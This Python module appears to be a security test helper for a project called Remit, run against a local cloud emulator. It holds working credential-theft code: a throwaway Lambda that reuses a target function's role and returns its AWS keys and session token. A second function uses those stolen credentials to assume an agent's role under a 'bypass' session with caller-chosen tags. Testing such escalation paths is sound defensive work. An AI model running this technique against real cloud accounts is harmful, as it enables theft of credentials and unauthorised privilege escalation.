"""What whoever runs code inside a function could do: its role's credentials, taken out of it."""

import io
import json
import uuid
import zipfile
from dataclasses import dataclass
from typing import Any

import boto3

from remit.cli.target import LOCAL_STAGE, local_session
from remit.local.cloud import CloudState
from remit.names import Names

_NAMES = Names(LOCAL_STAGE)
_LEAK = """
import os
def handler(event, context):
    return [os.environ[name] for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")]
"""


@dataclass(frozen=True, slots=True)
class Loot:
    """Stolen credentials, as clients."""

    state: CloudState
    session: boto3.Session

    def __call__(self, service: str) -> Any:  # noqa: ANN401 (each service has a client of its own)
        return self.session.client(service, endpoint_url=self.state.endpoint)  # type: ignore[call-overload]


def stolen_from(state: CloudState, function: str) -> Loot:
    """The credentials of one of Remit's functions."""
    functions, name = local_session(state).client("lambda", endpoint_url=state.endpoint), f"leak-{uuid.uuid4()}"
    role = functions.get_function_configuration(FunctionName=_NAMES.of(function))["Role"]
    functions.create_function(FunctionName=name, Runtime="python3.13", Role=role, Handler="index.handler", Code={"ZipFile": _archive()})
    try:
        return loot(state, *json.loads(functions.invoke(FunctionName=name)["Payload"].read()))
    finally:
        functions.delete_function(FunctionName=name)


def stolen_from_agent(state: CloudState, domain: str, agent: str, **tags: str) -> Loot:
    """The agent's own, assumed from its executor's with no warrant, no gate, and tags of the thief's choice."""
    sts = stolen_from(state, f"{domain}-{agent}-executor")("sts")
    assumed = sts.assume_role(
        RoleArn=f"arn:aws:iam::{state.account_id}:role/{_NAMES.agent_role(domain, agent)}",
        RoleSessionName="bypass",
        Tags=[{"Key": key, "Value": value} for key, value in tags.items()],
    )["Credentials"]
    return loot(state, assumed["AccessKeyId"], assumed["SecretAccessKey"], assumed["SessionToken"])


def loot(state: CloudState, key: str, secret: str, token: str | None = None) -> Loot:
    session = boto3.Session(aws_access_key_id=key, aws_secret_access_key=secret, aws_session_token=token, region_name=state.region)
    return Loot(state, session)


def _archive() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("index.py", _LEAK)
    return archive.getvalue()
